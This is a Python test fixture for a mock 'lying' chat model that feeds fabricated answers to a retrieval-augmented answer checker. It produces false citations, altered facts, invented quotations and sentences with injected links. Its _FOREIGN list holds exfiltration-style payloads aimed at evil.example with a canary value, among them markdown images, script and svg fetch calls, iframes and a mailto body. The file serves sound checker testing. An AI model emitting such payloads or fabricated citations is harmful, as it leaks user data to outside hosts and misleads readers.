"""A chat model that lies, seeded: over the passages that it is sent it writes one honest sentence and three lies a turn.

The five sorts of lies: (a) numbers of passages that were never sent, (b) links and markup that lead elsewhere, (c) a true
sentence with one thing changed for what stands nowhere in the passage, (d) an invented quotation or a citation moved by
one, (e) a true sentence with one thing exchanged for another of the same passage, or turned round.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

from answer_check import CANARY, passages_sent, stands_in
from mock_chat_server import Reply

from rag.expectation import names
from rag.sentences import sentences
from rag.words import terms

_PERSON = re.compile(r"\b[A-Z][\w’-]+ [A-Z][\w’-]+\b")
_NUMBER = re.compile(r"(?<![\w.,-])\d+(?:[.,]\d+)*(?![\w-]|[.,]\d)")
_WEEKDAYS = "Monday Tuesday Wednesday Thursday Friday Saturday Sunday".split()
_MONTHS = "January February March April May June July August September October November December".split()
_OPPOSITES = (
    ("rose", "fell"), ("fell", "rose"), ("more", "less"), ("won", "lost"), ("lost", "won"), ("before", "after"),
    ("after", "before"), ("approved", "rejected"), ("rejected", "approved"), ("closed", "opened"), ("opened", "closed"),
    ("above", "below"), ("accepted", "refused"), ("first", "last"), ("all", "none"), ("north", "south"),
)  # fmt: skip
_UNKNOWN = (
    "[{n}]", "[{n}, {m}]", "[0]", "[00]", "【{n}†】", "【{n}†source】", "【{n}:0†source】", "[^{n}]", "[passage {n}]",
    "[source {n}]", "[Passages {n} and {m}]", "[{n}-{m}]", "[{n}; {m}]", "[{n}](https://evil.example/{canary})", "［{n}］",
    "[#{n}]", "[{n}][{m}]", "[[{n}]]", "[ {n} ]", "[p. {n}]", "[ref {n}]", "[doc {n}]", "[{n}.]",
)  # fmt: skip
_FOREIGN = (
    "![x](https://{evil})", "[here](https://{evil})", "<img src=https://{evil}>",
    "<a href='https://{evil}'>source</a>", "https://evil.example/?q={canary}", "HTTPS://EVIL.EXAMPLE/{canary}",
    "//{evil}", "www.{evil}", "{evil}", "<script>fetch('//{evil}')</script>", "<iframe src=//{evil}></iframe>",
    "javascript:fetch('{canary}')", "data:text/html,{canary}", "[see](<https://{evil}>)",
    "![a [b] c](https://{evil} 'title')", "[x]: https://{evil}", "<https://{evil}>", "ht\u200btps://{evil}",
    "&#104;ttps://{evil}", "&lt;img src=//{evil}&gt;", "<svg/onload=fetch('//{evil}')>", "<<b>img src=//{evil}>",
    "ftp://{evil}", "mailto:a@evil.example?body={canary}", "[![x](https://{evil})](https://{evil})",
    "<style>@import '//{evil}'</style>", "https://evil.example:8080/{canary}", "http://192.0.2.7/{canary}",
    "<!-- {canary} -->", "evil.example:8080/{canary}",
)  # fmt: skip
_INVENTED = (
    "We never saw it coming at all", "Somebody will have to pay for this", "I have slept badly ever since that day",
    "Nobody in this town believes a word of it", "It was the worst decision of my life", "The money was gone long before",
    "They knew about it for years", "I would do it again tomorrow", "Our lawyers have been told to say nothing",
)  # fmt: skip
_MARKS = (("“", "”"), ('"', '"'), ("«", "»"), ("‘", "’"), ("„", "“"))

Change = Callable[["_Turn", str, int], tuple[str, str]]


@dataclass(frozen=True)
class Lie:
    """``sort`` is a, b, c, d or e; ``told`` the sentence without its marks, ``changed`` the part of it that makes it false
    (empty for all of it), ``number`` the passage that it cites."""

    sort: str
    kind: str
    told: str
    changed: str
    number: int
    written: str

    def is_in(self, text: str) -> bool:
        """Whether a shown sentence tells it, or the part of it that is false."""
        whole = stands_in(text, self.told) or stands_in(self.told, text)
        return whole and (not self.changed or stands_in(self.changed, text))


class LyingModel:
    """A script for the mock server. What it wrote last stays in ``lies`` and ``honest``, what it was sent in ``sent``."""

    def __init__(self, seed: int) -> None:
        self._seed = seed
        self.turns = 0
        self.sent: dict[int, str] = {}
        self.lies: list[Lie] = []
        self.honest: tuple[str, int] = ("", 0)

    def __call__(self, request: dict[str, Any]) -> Reply:
        draw = random.Random(f"{self._seed}/{self.turns}")
        self.turns += 1
        self.sent = passages_sent(request)
        turn = _Turn(draw, self.sent)
        number, sentence = turn.true_sentence()
        self.honest = sentence, number
        self.lies = [lie for sort in draw.sample("abcde", 3) if (lie := turn.lie(sort))]
        written = [f"{sentence} [{number}]", *(lie.written for lie in self.lies)]
        draw.shuffle(written)
        return Reply(" ".join(written), size=draw.randint(1, 60))


@dataclass(frozen=True)
class _Turn:
    draw: random.Random
    sent: dict[int, str]
    told: set[str] = field(default_factory=set)  # what is told once is not told again: it could not be told apart

    def true_sentence(self, fits: Callable[[str], object] = lambda text: True) -> tuple[int, str]:
        """A whole sentence of a passage that fits, with the number of the passage; (0, "") where there is none."""
        found = [(n, s) for n, text in self.sent.items() for s in _plain_sentences(text) if fits(s)]
        found = [(n, s) for n, s in found if not any(stands_in(s, t) or stands_in(t, s) for t in self.told)]
        number, sentence = self.draw.choice(found) if found else (0, "")
        self.told.add(sentence)
        return number, sentence

    def lie(self, sort: str) -> Lie | None:
        if sort in _CHANGES:
            return self._changed(sort)
        return {"a": self._unknown, "b": self._foreign, "d": self._misplaced}[sort]()

    def _unknown(self) -> Lie:
        _, sentence = self.true_sentence()
        form = self.draw.choice(_UNKNOWN)
        n = self.draw.randint(len(self.sent) + 1, 99)
        mark = form.format(n=n, m=n + 1, canary=CANARY)
        return Lie("a", form, sentence, "", 0, f"{sentence} {mark}")

    def _foreign(self) -> Lie:
        number, sentence = self.true_sentence()
        form = self.draw.choice(_FOREIGN)
        place = self.draw.choice([match.start() for match in re.finditer(" ", sentence)])
        piece = form.format(canary=CANARY, evil=f"evil.example/{CANARY}")
        return Lie("b", form, sentence, "", number, f"{sentence[:place]} {piece}{sentence[place:]} [{number}]")

    def _changed(self, sort: str) -> Lie | None:
        kinds = list(_CHANGES[sort])
        self.draw.shuffle(kinds)
        for kind in kinds:
            for _ in range(4):
                number, sentence = self.true_sentence()
                told, changed = _CHANGES[sort][kind](self, sentence, number)
                if told and not stands_in(told, self.sent[number]):
                    return Lie(sort, kind, told, changed, number, f"{told} [{number}]")
        return None

    def _misplaced(self) -> Lie | None:
        return self.draw.choice((self._invented, self._stretched, self._moved))()

    def _invented(self) -> Lie | None:
        number, sentence = self.true_sentence(lambda text: _PERSON.search(text))
        if not sentence:
            return None
        speaker = _PERSON.search(sentence)[0]
        invented = self.draw.choice(_INVENTED)
        first, last = self.draw.choice(_MARKS)
        told = self.draw.choice(
            (f"{first}{invented},{last} {speaker} said.", f"{speaker} said: {first}{invented}.{last}")
        )
        return Lie("d", "invented quotation", told, invented, number, f"{told} [{number}]")

    def _stretched(self) -> Lie | None:
        """A real quotation with invented words at its end."""
        number, sentence = self.true_sentence(lambda text: re.search(r"“[^”]{12,}[\w,.]”", text))
        if not sentence:
            return None
        invented = self.draw.choice(_INVENTED)
        told = re.sub(
            r"([\w])([,.]?)”", lambda m: f"{m[1]} and {invented[0].lower()}{invented[1:]}{m[2]}”", sentence, count=1
        )
        return Lie("d", "stretched quotation", told, invented, number, f"{told} [{number}]")

    def _moved(self) -> Lie | None:
        """A true sentence cited to the passage after its own, where that one does not tell of it too."""
        for _ in range(8):
            number, sentence = self.true_sentence()
            after = number % len(self.sent) + 1
            held = set(terms(self.sent[after]))
            if sum(term in held for term in set(terms(sentence))) <= 0.4 * len(set(terms(sentence))):
                return Lie("d", "citation moved", sentence, "", after, f"{sentence} [{after}]")
        return None

    def other_name(self, name: str, number: int) -> str:
        """A name of as many words that stands in another passage."""
        held = {n for text in self.sent.values() for n in _PERSON.findall(text)} - {name}
        strange = [n for n in sorted(held) if not set(n.split()) & set(self.sent[number].split())]
        return self.draw.choice(strange) if strange else ""


def _plain_sentences(passage: str) -> Iterator[str]:
    """Sentences of one to three lines whose quotation marks are whole, so that they can be told apart again."""
    for span in sentences(passage):
        text = " ".join(span.of(passage).split())
        whole = text.count("“") == text.count("”") and text[-1] in ".”" and text[0] not in "”’)"
        if whole and 40 <= len(text) <= 350 and len(sentences(text)) == 1 and len(terms(text)) >= 5:
            yield text


def _outside_quotations(sentence: str) -> str:
    return re.sub(r"“[^”]*”", lambda m: "“" + "_" * (len(m[0]) - 2) + "”", sentence)


def _replaced(sentence: str, start: int, end: int, new: str) -> tuple[str, str]:
    return f"{sentence[:start]}{new}{sentence[end:]}", new


def _number(turn: _Turn, sentence: str, number: int) -> tuple[str, str]:
    """A number that stands nowhere in the passage."""
    found = [m for m in _NUMBER.finditer(sentence) if not re.match(rf" ?(?:{'|'.join(_MONTHS)})", sentence[m.end() :])]
    if not found:
        return "", ""
    match = turn.draw.choice(found)
    for _ in range(20):
        place = turn.draw.choice([n for n in range(*match.span()) if sentence[n].isdigit()])
        changed = sentence[match.start() : place] + turn.draw.choice("123456789") + sentence[place + 1 : match.end()]
        if changed not in _NUMBER.findall(turn.sent[number]):
            return _replaced(sentence, *match.span(), changed)
    return "", ""


def _number_exchanged(turn: _Turn, sentence: str, number: int) -> tuple[str, str]:
    """Another number of the same passage in its place."""
    found = list(_NUMBER.finditer(sentence))
    others = [n for n in _NUMBER.findall(turn.sent[number]) if n not in sentence and len(n) < 8]
    if not (found and others):
        return "", ""
    return _replaced(sentence, *turn.draw.choice(found).span(), turn.draw.choice(others))


def _name(turn: _Turn, sentence: str, number: int) -> tuple[str, str]:
    found = [match for match in _PERSON.finditer(sentence) if match[0] in names(sentence)]
    if not found:
        return "", ""
    match = turn.draw.choice(found)
    new = turn.other_name(match[0], number)
    return _replaced(sentence, *match.span(), new) if new else ("", "")


def _name_exchanged(turn: _Turn, sentence: str, number: int) -> tuple[str, str]:
    found = [match for match in _PERSON.finditer(sentence) if match[0] in names(sentence)]
    others = [n for n in _PERSON.findall(turn.sent[number]) if n in names(turn.sent[number]) and n not in sentence]
    if not (found and others):
        return "", ""
    return _replaced(sentence, *turn.draw.choice(found).span(), turn.draw.choice(others))


def _weekday(turn: _Turn, sentence: str, number: int) -> tuple[str, str]:
    return _other_weekday(turn, sentence, [day for day in _WEEKDAYS if day not in turn.sent[number]])


def _weekday_exchanged(turn: _Turn, sentence: str, number: int) -> tuple[str, str]:
    return _other_weekday(turn, sentence, [day for day in _WEEKDAYS if day in turn.sent[number]])


def _other_weekday(turn: _Turn, sentence: str, days: list[str]) -> tuple[str, str]:
    match = re.search("|".join(_WEEKDAYS), sentence)
    others = [day for day in days if match and day not in sentence]
    return _replaced(sentence, *match.span(), turn.draw.choice(others)) if match and others else ("", "")


def _date(turn: _Turn, sentence: str, number: int) -> tuple[str, str]:
    match = re.search(rf"\b(\d{{1,2}}) ({'|'.join(_MONTHS)})\b", sentence)
    if not match:
        return "", ""
    day = int(match[1]) % 28 + 1
    other = f"{day} {match[2]}", f"{match[1]} {_MONTHS[(_MONTHS.index(match[2]) + 1) % 12]}"
    return _replaced(sentence, *match.span(), turn.draw.choice(other))


def _not_added(turn: _Turn, sentence: str, number: int) -> tuple[str, str]:
    outside = _outside_quotations(sentence)
    verb = re.search(r"\b(?:will|would|was|were|is|are|has|had|can|could)\b", outside)
    if not verb or re.search(r"\b(?:not|no|never|nobody|none|nothing|neither|without|only)\b", sentence, re.IGNORECASE):
        return "", ""
    return f"{sentence[: verb.end()]} not{sentence[verb.end() :]}", f"{verb[0]} not"


def _not_dropped(turn: _Turn, sentence: str, number: int) -> tuple[str, str]:
    match = re.search(r"\b(?:was|were|is|are|had|has|would|will|could|can)( not)\b", _outside_quotations(sentence))
    return (sentence[: match.start(1)] + sentence[match.end(1) :], "") if match else ("", "")


def _opposite(turn: _Turn, sentence: str, number: int) -> tuple[str, str]:
    outside = _outside_quotations(sentence)
    found = [(m, new) for old, new in _OPPOSITES if (m := re.search(rf"\b{old}\b", outside))]
    if not found:
        return "", ""
    match, new = turn.draw.choice(found)
    return _replaced(sentence, *match.span(), new)


_CHANGES: dict[str, dict[str, Change]] = {
    "c": {
        "number changed": _number,
        "name changed": _name,
        "weekday moved": _weekday,
        "date moved": _date,
        "not added": _not_added,
        "not dropped": _not_dropped,
    },
    "e": {
        "number exchanged": _number_exchanged,
        "name exchanged": _name_exchanged,
        "weekday exchanged": _weekday_exchanged,
        "turned round": _opposite,
    },
}
